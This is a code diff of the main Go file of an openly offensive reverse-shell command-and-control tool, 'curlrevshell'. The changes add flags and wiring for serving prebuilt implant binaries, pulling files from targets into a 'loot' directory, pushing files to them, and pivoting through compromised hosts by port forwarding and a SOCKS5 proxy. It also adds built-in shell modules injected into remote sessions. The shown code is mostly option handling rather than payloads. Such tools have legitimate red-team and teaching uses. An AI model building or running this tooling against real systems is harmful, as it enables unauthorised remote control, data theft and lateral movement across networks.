@@ -6,7 +6,7 @@ package main
  * Even worse reverse shell, powered by cURL
  * By J. Stuart McMurray
  * Created 20240324
- * Last Modified 20241012
+ * Last Modified 20261016
  */
 
 import (
@@ -17,10 +17,13 @@ import (
 	"io"
 	"log"
 	"log/slog"
+	"net"
 	"os"
 
 	"github.com/magisterquis/curlrevshell/internal/hsrv"
 	"github.com/magisterquis/curlrevshell/internal/iobroker"
+	"github.com/magisterquis/curlrevshell/internal/modules"
+	"github.com/magisterquis/curlrevshell/internal/pivot"
 	"github.com/magisterquis/curlrevshell/lib/ctxerrgroup"
 	"github.com/magisterquis/curlrevshell/lib/ezicanhazip"
 	"github.com/magisterquis/curlrevshell/lib/opshell"
@@ -68,6 +71,17 @@ func rmain() int {
 			false,
 			"Write the default template to stdout and exit",
 		)
+		bdir = flag.String(
+			"binaries-dir",
+			"",
+			"Optional `directory` of prebuilt simpleshells to "+
+				"serve from /b/, with config patched in",
+		)
+		printBinaryTemplate = flag.Bool(
+			"print-binary-template",
+			false,
+			"Write a template for -binaries-dir to stdout and exit",
+		)
 		certFile = flag.String(
 			"tls-certificate-cache",
 			sstls.DefaultCertFile(),
@@ -104,11 +118,79 @@ func rmain() int {
 			"",
 			"Tab/Ctrl+I's insertion `source` file or directory",
 		)
+		ctrlIConfig = flag.String(
+			"ctrl-i-config",
+			"",
+			"Optional `file` configuring -ctrl-i's filters",
+		)
 		printCtrlI = flag.Bool(
 			"print-ctrl-i",
 			false,
 			"Print what would be sent with Tab/Ctrl+I and exit",
 		)
+		noModules = flag.Bool(
+			"no-builtin-modules",
+			false,
+			"Don't include built-in modules with Tab/Ctrl+I",
+		)
+		listModules = flag.Bool(
+			"list-modules",
+			false,
+			"List built-in modules and exit",
+		)
+		exportModules = flag.String(
+			"export-modules",
+			"",
+			"Write built-in modules to `directory` and exit",
+		)
+		minifyCtrlI = flag.Bool(
+			"minify-ctrl-i",
+			false,
+			"Remove comments and extra whitespace from Tab/Ctrl+I",
+		)
+		watchCtrlI = flag.Bool(
+			"watch-ctrl-i",
+			false,
+			"Insert changed functions when -ctrl-i changes",
+		)
+		confirmWatch = flag.Bool(
+			"watch-ctrl-i-confirm",
+			false,
+			"Wait for Ctrl+Y before inserting watched changes",
+		)
+		lootDir = flag.String(
+			"loot-dir",
+			"loot",
+			"Optional `directory` in which to save files from @get",
+		)
+		putDir = flag.String(
+			"put-dir",
+			"",
+			"Optional `directory` to which to limit files for @put",
+		)
+		allowPivot = flag.Bool(
+			"pivot",
+			false,
+			"Allow pivoting via simpleshell for @forward, even "+
+				"without -socks5-address",
+		)
+		socksAddr = flag.String(
+			"socks5-address",
+			"",
+			"Optional `address` on which to serve SOCKS5 via "+
+				"simpleshell",
+		)
+		pivotMaxStreams = flag.Int(
+			"pivot-max-streams",
+			pivot.DefaultMaxStreams,
+			"Maximum `number` of simultaneous SOCKS5 connections",
+		)
+		debugAddr = flag.String(
+			"debug-address",
+			"",
+			"Optional `address` on which to serve expvar and "+
+				"pprof, for debugging",
+		)
 	)
 	flag.StringVar(
 		&Prompt,
@@ -133,11 +215,22 @@ func rmain() int {
 Even worse reverse shell, powered by cURL.
 
 Keyboard Shortcuts:
-Ctrl+I - Insert the file or directory specified with -ctrl-i
+Ctrl+I - Insert built-in modules and -ctrl-i's file or directory
 Ctrl+J - Print locally what Ctrl+I would send
 Ctrl+O - Mute output for a couple of seconds (for if you cat a huge file)
+Ctrl+Y - Insert changes noticed with -watch-ctrl-i-confirm
 Tab    - Same as Ctrl+I
 
+File Transfers, with simpleshell:
+@get /path         - Save a file from target in -loot-dir
+@put file [/path]  - Send a file to target
+
+Port Forwards, with simpleshell and -pivot or -socks5-address:
+@forward                             - List port forwards
+@forward -L [bind:]port host:port    - Forward a local port via target
+@forward -R [bind:]port host:port    - Forward a port on target via here
+@forward -K number                   - Stop listening for a forward
+
 Options:
 `,
 			os.Args[0],
@@ -146,23 +239,45 @@ Options:
 	}
 	flag.Parse()
 
-	/* If we're just printing the default template, life's easy. */
-	if *printDefaultTemplate {
-		if _, err := io.WriteString(
-			os.Stdout,
-			hsrv.DefaultTemplate,
-		); nil != err {
+	/* If we're just printing a template, life's easy. */
+	if *printDefaultTemplate || *printBinaryTemplate {
+		tmpl := hsrv.DefaultTemplate
+		if *printBinaryTemplate {
+			tmpl = hsrv.BinaryTemplate
+		}
+		if _, err := io.WriteString(os.Stdout, tmpl); nil != err {
 			log.Printf("Error printing template: %s", err)
 			return 1
 		}
 		return 0
 	}
 
+	/* Same if we're just doing things with modules. */
+	if *listModules {
+		if err := printModules(); nil != err {
+			log.Printf("Error listing modules: %s", err)
+			return 1
+		}
+		return 0
+	}
+	if "" != *exportModules {
+		if err := modules.Export(*exportModules); nil != err {
+			log.Printf("Error exporting modules: %s", err)
+			return 1
+		}
+		return 0
+	}
+
 	/* Channels for comms between subsystems. */
 	var (
-		ich = make(chan string, 1024)
-		och = make(chan opshell.CLine, 1024)
+		ich  = make(chan string, 1024)
+		och  = make(chan opshell.CLine, 1024)
+		uich = ich /* From the user, possibly via filterForwards. */
 	)
+	pivoting := *allowPivot || "" != *socksAddr
+	if pivoting {
+		uich = make(chan string, 1024)
+	}
 
 	/* And an adapter betwen io.{Read,Writ}er and channels. */
 	iob, err := iobroker.New(ich, och)
@@ -170,6 +285,8 @@ Options:
 		log.Printf("Error setting up comms between subsystems: %s", err)
 		return 3
 	}
+	iob.LootDir = *lootDir
+	iob.PutDir = *putDir
 
 	/* Set up logging.  If we're not writing to a logfile, we'll just kinda
 	discard log messages.  Beats checking for nil, anyways. */
@@ -194,22 +311,45 @@ Options:
 	/* Converter for Ctrl+I. */
 	ctrlIConv := shellfuncsfile.NewDefaultConverter()
 	ctrlIConv.AddListFunction = true
+	ctrlIConv.Config = *ctrlIConfig
+	var (
+		insertSources []string
+		insertName    = *insertFile
+	)
+	if "" != *insertFile {
+		insertSources = append(insertSources, *insertFile)
+	}
+	if !*noModules {
+		ctrlIConv.Base = modules.FS
+		if "" == *insertFile {
+			insertName = builtinModulesName
+		}
+	}
 	insertGen := func() ([]byte, error) {
 		/* Make sure we have something to insert. */
-		if "" == *insertFile {
+		if "" == insertName {
 			return nil, errors.New("no source configured")
 		}
 		/* Send it for inserting. */
-		b, err := ctrlIConv.From(*insertFile)
+		b, err := ctrlIConv.From(insertSources...)
 		if nil != err {
 			return nil, fmt.Errorf(
 				"preparing %s: %w",
-				*insertFile,
+				insertName,
 				err,
 			)
 		}
 		return b, nil
 	}
+	var minify func([]byte) []byte
+	if *minifyCtrlI {
+		minify = func(b []byte) []byte {
+			return shellfuncsfile.Minify(
+				b,
+				ctrlIConv.AddListFunction,
+			)
+		}
+	}
 
 	/* If we're just printing it, life's easy. */
 	if *printCtrlI {
@@ -217,18 +357,22 @@ Options:
 		if nil != err {
 			log.Fatalf("Error generating Ctrl+I file: %s", err)
 		}
+		if nil != minify {
+			b = minify(b)
+		}
 		os.Stdout.Write(b)
 		return 0
 	}
 
 	/* Fancypants shell. */
 	shell, cleanup, err := opshell.New(
-		ich,
+		uich,
 		och,
 		Prompt,
 		*noTimestamps,
 		insertGen,
-		*insertFile,
+		insertName,
+		minify,
 	)
 	och <- opshell.CLine{Prompt: shell.WrapInColor(
 		Prompt,
@@ -285,15 +429,64 @@ Options:
 		cbAddrs = append(cbAddrs, a.String())
 	}
 
+	/* Pivoting and SOCKS5 via simpleshell. */
+	var (
+		pv  *pivot.Pivot
+		sl5 net.Listener
+	)
+	if pivoting {
+		pv = pivot.New(sl, och)
+		pv.MaxStreams = *pivotMaxStreams
+	}
+	if "" != *socksAddr {
+		if sl5, err = net.Listen("tcp", *socksAddr); nil != err {
+			shell.Logf(
+				opshell.ColorRed,
+				false,
+				"Error listening for SOCKS5 clients: %s",
+				err,
+			)
+			return 2
+		}
+		shell.Logf(
+			opshell.ColorNone,
+			false,
+			"SOCKS5 listener on %s",
+			sl5.Addr(),
+		)
+	}
+
+	/* Debugging, if we're doing that. */
+	var dl net.Listener
+	if "" != *debugAddr {
+		if dl, err = net.Listen("tcp", *debugAddr); nil != err {
+			shell.Logf(
+				opshell.ColorRed,
+				false,
+				"Error listening for debug clients: %s",
+				err,
+			)
+			return 2
+		}
+		shell.Logf(
+			opshell.ColorNone,
+			false,
+			"Debug listener on %s",
+			dl.Addr(),
+		)
+	}
+
 	/* HTTPS Server */
 	svr, err := hsrv.New(
 		sl,
 		*addr,
 		*fdir,
 		*tmplf,
+		*bdir,
 		ich,
 		och,
 		iob,
+		pv,
 		*certFile,
 		cbAddrs,
 		*printIPv6,
@@ -314,6 +507,40 @@ Options:
 	eg.GoContext(ectx, shell.Do)
 	eg.GoContext(ectx, svr.Do)
 	eg.GoContext(ectx, iob.Do)
+	if nil != pv {
+		eg.GoContext(ectx, func(ctx context.Context) error {
+			return filterForwards(ctx, pv, uich, ich)
+		})
+	}
+	if nil != sl5 {
+		eg.GoContext(ectx, func(ctx context.Context) error {
+			return pv.ServeSOCKS5(ctx, sl5)
+		})
+	}
+	if nil != dl {
+		eg.GoContext(ectx, func(ctx context.Context) error {
+			return serveDebug(ctx, dl)
+		})
+	}
+	if *watchCtrlI {
+		if "" == *insertFile {
+			shell.Logf(
+				opshell.ColorRed,
+				false,
+				"Warning: Not watching for changes "+
+					"without -ctrl-i",
+			)
+		} else {
+			w := &ctrlIWatcher{
+				shell:     shell,
+				iob:       iob,
+				insertGen: insertGen,
+				source:    *insertFile,
+				confirm:   *confirmWatch,
+			}
+			eg.GoContext(ectx, w.Do)
+		}
+	}
 
 	/* Wait for something to go wrong. */
 	err = eg.Wait()